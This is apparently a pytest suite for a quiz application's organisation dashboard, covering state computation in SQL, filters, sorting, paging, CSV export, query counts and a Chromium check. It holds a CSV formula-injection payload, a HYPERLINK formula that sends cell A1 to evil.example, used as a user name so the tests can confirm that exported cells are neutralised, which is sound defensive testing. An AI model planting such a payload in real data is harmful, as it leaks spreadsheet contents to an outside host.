"""The manager's dashboard (quiz/orgs/dashboard.py, dashboard_views.py): states in SQL as
results.assignment_state computes them, filters, sorting, paging, the CSV, constant
statements, and the page in Chromium. Test data is made directly with the models."""

from __future__ import annotations

import csv
import io
import itertools
import random
from datetime import UTC, datetime, timedelta

import pytest
from playwright.sync_api import sync_playwright
from sqlalchemy import event, insert, select
from sqlalchemy.orm import Session

from quiz.extensions import db
from quiz.models import (
    Assignment,
    AssignmentPerson,
    Attempt,
    Cohort,
    Membership,
    Organisation,
    QuestionSet,
    User,
)
from quiz.orgs import dashboard as dash
from quiz.orgs import results
from quiz.vocab import AssignmentState, AttemptStatus, OrgRole

from . import bankgen
from .conftest import PASSWORD, QueryCounter, make_app
from .test_access import _password_hash
from .test_e2e import CHROMIUM_ARGS, CSP_RECORDER, Shots, chromium, serving  # noqa: F401 (fixture)
from .test_lazy_loads import LazyLoads

pytestmark = pytest.mark.small_bank

NOW = datetime(2027, 3, 31, 12, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


# --- the recertification cut-off, exactly add_months -----------------------------------------

def _counts(ranges, moment: datetime) -> bool:
    for low, inclusive, high in ranges:
        if (moment >= low if inclusive else moment > low) and (high is None or moment < high):
            return True
    return False


def test_valid_pass_ranges_are_exactly_add_months():
    """For month-end and ordinary moments, every pass moment around them: the ranges say
    "still counts" exactly when now < add_months(pass, months)."""
    nows = [datetime(y, m, d, h, mi, tzinfo=UTC)
            for y, m, d in [(2027, 2, 28), (2028, 2, 29), (2028, 2, 28), (2027, 3, 31), (2027, 3, 30),
                            (2027, 3, 1), (2027, 4, 30), (2027, 1, 31), (2027, 12, 31), (2028, 1, 15)]
            for h, mi in [(0, 0), (12, 0), (23, 59)]]
    times = [(0, 0, 0), (11, 59, 59), (12, 0, 0), (12, 0, 1), (23, 59, 59)]
    for months, now in itertools.product((1, 2, 6, 11, 12, 13, 24), nows):
        ranges = dash.valid_pass_ranges(months, now)
        start = results.add_months(now, -months - 1).replace(day=1)
        for offset in range(0, 95):
            day = start + timedelta(days=offset)
            for h, mi, s in times:
                passed = day.replace(hour=h, minute=mi, second=s)
                expected = now < results.add_months(passed, months)
                assert _counts(ranges, passed) == expected, (months, now, passed)


# --- states in SQL agree with results.assignment_state -----------------------------------------

def _users(n: int, start: int = 0, cohort_id=None, org_id=None, prefix="person") -> list[int]:
    """n accounts (one shared password hash), members of org_id in cohort_id: bulk inserts."""
    hashed = _password_hash()
    rows = [{"email": f"{prefix}{i:05d}@example.org", "name": f"{prefix.title()} {i:05d}",
             "password_hash": hashed, "role": "learner"} for i in range(start, start + n)]
    ids = list(db.session.scalars(insert(User).returning(User.id), rows))
    if org_id is not None:
        db.session.execute(insert(Membership), [
            {"org_id": org_id, "user_id": uid, "role": OrgRole.MEMBER.value, "cohort_id": cohort_id}
            for uid in ids])
    return ids


def _attempt(user_id, assignment, *, score=None, passed_mark=50, at=None, open_=False) -> Attempt:
    attempt = Attempt(user_id=user_id, set_id=assignment.set_id, assignment_id=assignment.id,
                      pass_mark=passed_mark, started_at=(at or NOW) - timedelta(hours=1))
    if not open_:
        attempt.status = AttemptStatus.SUBMITTED.value
        attempt.submitted_at = at
        attempt.score = score
        attempt.points = score
    db.session.add(attempt)
    return attempt


# Each member's history on every assignment: (score or None for an open attempt, when).
PASS_EDGES = [datetime(2027, m, d, h, mi, tzinfo=UTC)
              for m, d in [(1, 28), (1, 30), (1, 31), (2, 28), (3, 1), (3, 30)]
              for h, mi in [(11, 59), (12, 0), (12, 1)]]
SCENARIOS: list[list[tuple[float | None, datetime | None]]] = [
    [],
    [(None, None)],
    [(20.0, NOW - timedelta(days=2))],
    [(20.0, NOW - timedelta(days=2)), (None, None)],
    [(90.0, NOW - timedelta(days=3))],
    [(90.0, NOW - timedelta(days=400))],
    [(90.0, NOW - timedelta(days=400)), (None, None)],
    [(90.0, NOW - timedelta(days=400)), (10.0, NOW - timedelta(days=1))],
    [(50.0, NOW - timedelta(days=40))],  # exactly the pass mark
    *[[(75.0, moment)] for moment in PASS_EDGES],
    *[[(75.0, moment), (None, None)] for moment in PASS_EDGES[::3]],
]


def _rule_assignments(org_id: int, cohort_id: int) -> list[Assignment]:
    """Every combination of opening date, due date and recertification, each with its own set
    (one open attempt per person and set is the database's rule)."""
    past, future = NOW - timedelta(days=10), NOW + timedelta(days=10)
    out = []
    for n, (opens, due, recert) in enumerate(itertools.product(
            (None, past, future), (None, past - timedelta(days=1), future + timedelta(days=1)),
            (None, 1, 12))):
        if opens is not None and due is not None and opens >= due:
            continue
        set_id = f"rules-{n}"
        db.session.add(QuestionSet(id=set_id, title=f"Rules {n}", kind="topic", topic_id="alpha"))
        db.session.flush()
        assignment = Assignment(org_id=org_id, set_id=set_id, cohort_id=cohort_id, opens_at=opens,
                                due_at=due, recert_months=recert, pass_mark=50)
        db.session.add(assignment)
        out.append(assignment)
    db.session.flush()
    return out


def test_sql_states_agree_with_assignment_state_for_every_combination(app):
    with app.app_context():
        org = Organisation(name="Rules clinic")
        db.session.add(org)
        db.session.flush()
        cohort = Cohort(org_id=org.id, name="Everyone")
        db.session.add(cohort)
        db.session.flush()
        assignments = _rule_assignments(org.id, cohort.id)
        people = _users(len(SCENARIOS), cohort_id=cohort.id, org_id=org.id)
        for uid, scenario in zip(people, SCENARIOS, strict=True):
            for a in assignments:
                for score, at in scenario:
                    _attempt(uid, a, score=score, at=at, open_=score is None)
        # a pass without a pass mark is no pass; a named person outside the cohort
        odd = _users(2, start=900, org_id=org.id)
        _attempt(odd[0], assignments[0], score=100.0, passed_mark=None, at=NOW - timedelta(days=1))
        db.session.add(AssignmentPerson(assignment_id=assignments[0].id, user_id=odd[0]))
        db.session.flush()
        named = assignments[0].id
        assignments = dash.active_assignments(org.id)
        ids = [a.id for a in assignments]
        found = results.person_results(ids)
        assigned = set(db.session.execute(results.assignees(ids)).all())
        seen = set()
        for now in [NOW, NOW + timedelta(days=1), datetime(2027, 2, 28, 12, 0, tzinfo=UTC),
                    datetime(2027, 2, 28, 11, 59, 30, tzinfo=UTC), datetime(2027, 4, 30, 12, 0, tzinfo=UTC),
                    datetime(2028, 1, 31, 12, 0, 30, tzinfo=UTC), datetime(2028, 3, 1, tzinfo=UTC)]:
            sql = dash.sql_states(org.id, assignments, now)
            python = {(a.id, uid): results.assignment_state(a, found.get((a.id, uid)), now).value
                      for a in assignments for uid in [*people, *odd] if (a.id, uid) in assigned}
            assert sql == python, now
            seen |= set(sql.values())
        assert seen == {s.value for s in AssignmentState}  # every state was compared
        assert (named, odd[0]) in sql and not any(uid == odd[1] for _, uid in sql)


# --- a clinic ---------------------------------------------------------------------------------

@pytest.fixture
def clinic(app):
    """Clinic A: cohorts Spring and Autumn; A1 (alpha, Spring, due in a week), A2 (beta,
    Autumn, overdue), A3 archived. Ann passed A1, Bob failed it, Cat and a hostile name have
    not started, Dan (Autumn) is overdue on A2, Eve (no cohort, named on A1) is in progress.
    Clinic B has a member and an assignment of its own."""
    with app.app_context():
        now = datetime.now(UTC)
        hashed = _password_hash()
        org, other = Organisation(name="Clinic A"), Organisation(name="Clinic B")
        db.session.add_all([org, other])
        db.session.flush()
        spring, autumn = Cohort(org_id=org.id, name="Spring"), Cohort(org_id=org.id, name="Autumn")
        b_cohort = Cohort(org_id=other.id, name="B hires")
        db.session.add_all([spring, autumn, b_cohort])
        db.session.flush()

        def person(name, cohort=None, org_id=org.id, role=OrgRole.MEMBER):
            user = User(email=f"{name.split()[0].lower().strip('=')[:8]}{len(name)}@example.org",
                        name=name, password_hash=hashed, role="learner")
            db.session.add(user)
            db.session.flush()
            db.session.add(Membership(org_id=org_id, user_id=user.id, role=role,
                                      cohort_id=cohort.id if cohort else None))
            return user

        manager = person("Mia Manager", role=OrgRole.MANAGER)
        ann, bob, cat = person("Ann Able", spring), person("Bob Brown", spring), person("Cat Cole", spring)
        hostile = person(HOSTILE, spring)
        dan, eve = person("Dan Dale", autumn), person("Eve Ekk")
        b_member = person("Bea Other", b_cohort, org_id=other.id)
        a1 = Assignment(org_id=org.id, set_id="alpha", cohort_id=spring.id, pass_mark=50,
                        due_at=now + timedelta(days=7))
        a2 = Assignment(org_id=org.id, set_id="beta", cohort_id=autumn.id, pass_mark=50,
                        opens_at=now - timedelta(days=20), due_at=now - timedelta(days=1))
        a3 = Assignment(org_id=org.id, set_id="mixed", cohort_id=spring.id, archived_at=now)
        b1 = Assignment(org_id=other.id, set_id="alpha", cohort_id=b_cohort.id, pass_mark=50)
        db.session.add_all([a1, a2, a3, b1])
        db.session.flush()
        db.session.add(AssignmentPerson(assignment_id=a1.id, user_id=eve.id))
        passed = _attempt(ann.id, a1, score=80.0, at=now - timedelta(days=1))
        failed = _attempt(bob.id, a1, score=20.0, at=now - timedelta(days=2))
        _attempt(eve.id, a1, open_=True)
        _attempt(b_member.id, b1, score=90.0, at=now - timedelta(days=1))
        db.session.commit()
        return {"org": org.id, "other": other.id, "spring": spring.id, "autumn": autumn.id,
                "b_cohort": b_cohort.id, "a1": a1.id, "a2": a2.id, "a3": a3.id, "b1": b1.id,
                "passed": passed.id, "failed": failed.id, "manager": manager.session_token,
                "names": {"ann": ann.name, "bob": bob.name, "cat": cat.name, "dan": dan.name,
                          "eve": eve.name, "hostile": hostile.name}}


def signed_in(client, token: str):
    with client.session_transaction() as session:
        session["_user_id"] = token
        session["_fresh"] = True
    return client


def names_in(html: str) -> list[str]:
    """The people on a page, in order (each row's name cell)."""
    import re
    from html import unescape
    return [unescape(m) for m in re.findall(r'<th scope="row" class="person">(.*?)<small', html)]


def ordered(client, names: list[str], reverse: bool = False) -> list[str]:
    """`names` in the database's own collation (PostgreSQL's may differ from Python's)."""
    with client.application.app_context():
        key = User.name.desc() if reverse else User.name.asc()
        return list(db.session.scalars(select(User.name).where(User.name.in_(names)).order_by(key)))


def page(client, clinic, query="") -> str:
    response = client.get(f"/orgs/{clinic['org']}/dashboard{query}")
    assert response.status_code == 200, response.status_code
    return response.get_data(as_text=True)


def test_the_matrix_shows_each_state_as_text_with_review_links(client, clinic):
    signed_in(client, clinic["manager"])
    html = page(client, clinic)
    n = clinic["names"]
    assert names_in(html) == ordered(client, [n["ann"], n["bob"], n["cat"], n["dan"], n["eve"], n["hostile"]])
    assert "Bea Other" not in html  # another organisation's member
    assert html.count("Alpha set") >= 1 and "Mixed" not in html.split("<table")[1]  # archived A3 not a column
    for text in ("passed", "not passed", "not started", "in progress", "overdue", "not assigned",
                 "best 80%", "best 20%"):
        assert f">{text}<" in html or text in html, text
    assert f'href="/attempts/{clinic["passed"]}/review"' in html
    assert f'href="/attempts/{clinic["failed"]}/review"' in html
    assert html.count("/review\"") == 2  # the open attempt has no review link
    assert 'class="state state-overdue">overdue<' in html


def test_filters_by_cohort_status_and_search(client, clinic):
    signed_in(client, clinic["manager"])
    n = clinic["names"]
    assert names_in(page(client, clinic, f"?cohort={clinic['spring']}")) == sorted(
        [n["ann"], n["bob"], n["cat"], n["hostile"]])
    assert names_in(page(client, clinic, "?cohort=none")) == [n["eve"]]
    assert names_in(page(client, clinic, "?status=overdue")) == [n["dan"]]
    assert names_in(page(client, clinic, "?status=not_started")) == ordered(client, [n["cat"], n["hostile"]])
    assert names_in(page(client, clinic, f"?status=not_passed&in={clinic['a1']}")) == [n["bob"]]
    assert names_in(page(client, clinic, f"?status=overdue&in={clinic['a1']}")) == []
    assert names_in(page(client, clinic, f"?status=in_progress&in={clinic['a1']}")) == [n["eve"]]
    assert names_in(page(client, clinic, "?q=ANN")) == [n["ann"]]
    assert names_in(page(client, clinic, "?q=%25")) == []  # LIKE wildcards are literal
    html = page(client, clinic, f"?cohort={clinic['autumn']}&status=passed")
    assert names_in(html) == [] and "Nobody matches." in html


def test_sorting_by_cohort_and_by_an_assignment(client, clinic):
    signed_in(client, clinic["manager"])
    n = clinic["names"]
    spring = ordered(client, [n["ann"], n["bob"], n["cat"], n["hostile"]])
    assert names_in(page(client, clinic, "?sort=cohort")) == [n["dan"], *spring, n["eve"]]
    assert names_in(page(client, clinic, "?sort=name&dir=desc"))[0] == n["eve"]
    by_a1 = names_in(page(client, clinic, f"?sort=a{clinic['a1']}"))
    # not passed, not started (by name), in progress, passed; not assigned last
    assert by_a1 == [n["bob"], *ordered(client, [n["cat"], n["hostile"]]), n["eve"], n["ann"], n["dan"]]
    by_a1_desc = names_in(page(client, clinic, f"?sort=a{clinic['a1']}&dir=desc"))
    assert by_a1_desc == [n["ann"], n["eve"], *ordered(client, [n["cat"], n["hostile"]], reverse=True),
                          n["bob"], n["dan"]]


@pytest.mark.parametrize(("query", "status"), [
    ("?status=bogus", 400), ("?sort=email", 400), ("?dir=up", 400), ("?cohort=abc", 400),
    ("?in=1x", 400), ("?sort=a", 400),
    ("?cohort={b_cohort}", 404), ("?in={a3}", 404), ("?in={b1}", 404), ("?sort=a{b1}", 404),
    ("?sort=a{a3}", 404), ("?cohort=987654", 404),
])
def test_bad_arguments_are_4xx_with_a_reason(client, clinic, query, status):
    signed_in(client, clinic["manager"])
    for path in ("dashboard", "dashboard.csv"):
        response = client.get(f"/orgs/{clinic['org']}/{path}" + query.format(**clinic))
        assert response.status_code == status, (path, query)
        assert "Error" in response.get_data(as_text=True)


def test_pages_of_fifty_and_a_page_past_the_end(app, client, clinic):
    with app.app_context():
        _users(120, org_id=clinic["org"], cohort_id=clinic["autumn"], prefix="zed")
        db.session.commit()
    signed_in(client, clinic["manager"])
    first = page(client, clinic)
    assert len(names_in(first)) == 50 and "1–50 of 126 people" in first
    third = page(client, clinic, "?page=3")
    assert len(names_in(third)) == 26 and "101–126 of 126" in third
    assert names_in(page(client, clinic, "?page=99")) == names_in(third)
    assert names_in(page(client, clinic, "?page=x")) == names_in(first)
    assert f'href="/orgs/{clinic["org"]}/dashboard?page=2"' in first


def test_the_org_home_links_the_dashboard(client, clinic):
    signed_in(client, clinic["manager"])
    html = client.get(f"/orgs/{clinic['org']}").get_data(as_text=True)
    assert f'href="/orgs/{clinic["org"]}/dashboard"' in html


# --- the CSV ----------------------------------------------------------------------------------

def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_csv_has_every_person_neutralised_cells_and_the_same_filters(client, clinic):
    signed_in(client, clinic["manager"])
    rows = read_csv(client.get(f"/orgs/{clinic['org']}/dashboard.csv"))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Name", "E-mail", "Cohort"]
    beta, alpha = f"Beta set (#{clinic['a2']})", f"Alpha set (#{clinic['a1']})"
    # due date first: the overdue Beta assignment, then Alpha
    assert header[3:] == [f"{beta} status", f"{beta} best score", f"{beta} date",
                          f"{alpha} status", f"{alpha} best score", f"{alpha} date"]
    by_name = {r[0]: r for r in body}
    n = clinic["names"]
    assert len(body) == 6 and "'" + HOSTILE in by_name and HOSTILE not in by_name
    assert all(not cell.startswith(tuple("=+-@\t\r")) for row in rows for cell in row)
    ann = by_name[n["ann"]]
    assert ann[2] == "Spring" and ann[3:6] == ["not assigned", "", ""]
    assert ann[6:8] == ["passed", "80.0"] and len(ann[8]) == 10
    assert by_name[n["dan"]][3] == "overdue" and by_name[n["eve"]][2] == ""
    assert by_name[n["bob"]][6:8] == ["not passed", "20.0"]
    asc = read_csv(client.get(f"/orgs/{clinic['org']}/dashboard.csv?status=not_started"))
    desc = read_csv(client.get(f"/orgs/{clinic['org']}/dashboard.csv?status=not_started&sort=name&dir=desc"))
    assert sorted(r[0] for r in asc[1:]) == sorted(["'" + HOSTILE, n["cat"]])
    assert desc[1:] == asc[:0:-1]


def test_neutralise():
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert dash.neutralise(value) == "'" + value
    assert dash.neutralise("Ann") == "Ann" and dash.neutralise("") == ""


# --- constant statements, no lazy loads ---------------------------------------------------------

def _fill(app, org_id: int, cohort_id: int, assignment_ids: list[int], n: int, start: int) -> None:
    """n members with a mix of passed, failed and open attempts on the assignments."""
    with app.app_context():
        assignments = [db.session.get(Assignment, aid) for aid in assignment_ids]
        ids = _users(n, start=start, cohort_id=cohort_id, org_id=org_id, prefix="bulk")
        rng = random.Random(start)
        rows = []
        for uid in ids:
            for a in assignments:
                kind = rng.choice(("none", "pass", "fail", "open"))
                if kind == "none":
                    continue
                at = NOW - timedelta(days=rng.randint(1, 300))
                base = {"user_id": uid, "set_id": a.set_id, "assignment_id": a.id, "pass_mark": 50,
                        "started_at": at - timedelta(hours=1)}
                if kind == "open":
                    rows.append({**base, "status": "in_progress", "submitted_at": None, "score": None,
                                 "points": None})
                else:
                    score = 80.0 if kind == "pass" else 30.0
                    rows.append({**base, "status": "submitted", "submitted_at": at, "score": score,
                                 "points": score})
        db.session.execute(insert(Attempt), rows)
        db.session.commit()


def _statements(app, client, url: str) -> tuple[int, bytes]:
    counter = QueryCounter()
    with app.app_context():
        engine = db.engine
    event.listen(engine, "before_cursor_execute", counter)
    try:
        response = client.get(url)
        body = response.get_data()  # a streamed CSV runs its statements while it is read
        assert response.status_code == 200, url
    finally:
        event.remove(engine, "before_cursor_execute", counter)
    return counter.count, body


def test_the_same_statements_for_5_and_3000_members(app, client, clinic):
    a1, a2 = clinic["a1"], clinic["a2"]
    with app.app_context():
        db.session.get(Assignment, a2).recert_months = 12
        db.session.commit()
    signed_in(client, clinic["manager"])
    base = f"/orgs/{clinic['org']}/dashboard"
    urls = [base, f"{base}?page=3", f"{base}?status=passed", f"{base}?status=not_passed&in={a1}",
            f"{base}?sort=a{a2}&dir=desc&page=2", f"{base}?sort=cohort&cohort={clinic['spring']}&q=o",
            f"{base}?cohort=none&status=in_progress"]
    small = [_statements(app, client, url)[0] for url in urls]
    small_csv, _ = _statements(app, client, base + ".csv")
    _fill(app, clinic["org"], clinic["spring"], [a1, a2], 3000, start=0)
    large = [_statements(app, client, url)[0] for url in urls]
    assert small == large
    assert max(large) <= 8
    large_csv, body = _statements(app, client, base + ".csv?sort=a%d" % a1)
    assert body.count(b"\r\n") == 1 + 3006
    # the CSV: the same fixed statements, then two per 1,000 people
    assert large_csv == small_csv + 2 * 3


def test_the_page_renders_without_lazy_loads(client, clinic):
    signed_in(client, clinic["manager"])
    recorder = LazyLoads()
    event.listen(Session, "do_orm_execute", recorder)
    try:
        for query in ("", f"?sort=a{clinic['a1']}", "?status=passed"):
            assert client.get(f"/orgs/{clinic['org']}/dashboard{query}").status_code == 200
    finally:
        event.remove(Session, "do_orm_execute", recorder)
    assert recorder.loads == []


# --- in a real browser --------------------------------------------------------------------------

@pytest.mark.e2e
def test_the_dashboard_in_chromium_at_desktop_and_phone_widths(chromium, tmp_path):  # noqa: F811
    """No CSP violation, nothing wider than the window: the matrix scrolls inside its frame
    and the name column stays in view; screenshots at 1280 and 390 px."""
    app = make_app(tmp_path, bankgen.write_bank(tmp_path / "bank"), WTF_CSRF_ENABLED=True)
    with app.app_context():
        org = Organisation(name="Wide clinic")
        db.session.add(org)
        db.session.flush()
        cohort = Cohort(org_id=org.id, name="Spring 2027 hires")
        db.session.add(cohort)
        db.session.flush()
        from quiz import accounts
        manager = accounts.create_user("mia@example.org", PASSWORD, "Mia Manager")
        db.session.add(Membership(org_id=org.id, user_id=manager.id, role=OrgRole.MANAGER))
        people = _users(60, cohort_id=cohort.id, org_id=org.id)
        for n in range(6):
            set_id = f"wide-{n}"
            db.session.add(QuestionSet(id=set_id, title=f"Onboarding check part {n + 1}", kind="topic",
                                       topic_id="alpha"))
            db.session.flush()
            a = Assignment(org_id=org.id, set_id=set_id, cohort_id=cohort.id, pass_mark=50,
                           due_at=datetime.now(UTC) + timedelta(days=n * 3 - 4),
                           recert_months=12 if n % 2 else None)
            db.session.add(a)
            db.session.flush()
            for i, uid in enumerate(people[:20]):
                _attempt(uid, a, score=40.0 + 10 * ((i + n) % 5), at=datetime.now(UTC) - timedelta(days=2))
        db.session.commit()
        org_id = org.id
    shots = Shots(tmp_path / "screenshots")
    with serving(app) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(chromium), chromium_sandbox=False,
                                    args=CHROMIUM_ARGS)
        try:
            for width in (1280, 390):
                context = browser.new_context(viewport={"width": width, "height": 900})
                context.add_init_script(CSP_RECORDER)
                page_ = context.new_page()
                page_.goto(base + "/auth/login")
                page_.get_by_label("E-mail").fill("mia@example.org")
                page_.get_by_label("Password", exact=True).fill(PASSWORD)
                page_.get_by_role("button", name="Sign in").click()
                page_.goto(f"{base}/orgs/{org_id}")
                page_.get_by_role("link", name="Dashboard").click()
                assert page_.url.endswith(f"/orgs/{org_id}/dashboard")
                shots(page_, f"{width}-dashboard")
                assert page_.evaluate("window.__cspViolations") == []
                assert page_.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
                wrap = page_.locator(".matrix-wrap")
                assert wrap.evaluate("e => e.scrollWidth > e.clientWidth")  # six columns: it scrolls
                wrap.evaluate("e => { e.scrollLeft = e.scrollWidth; }")
                name = page_.locator("tbody th.person").first
                box, frame = name.bounding_box(), wrap.bounding_box()
                assert box["x"] >= frame["x"] - 1 and box["width"] >= 100  # still in view, readable
                shots(page_, f"{width}-dashboard-scrolled")
                page_.select_option("#d-status", "not_passed")
                page_.get_by_role("button", name="Show").click()
                assert "status=not_passed" in page_.url
                assert page_.evaluate("window.__cspViolations") == []
                context.close()
        finally:
            browser.close()
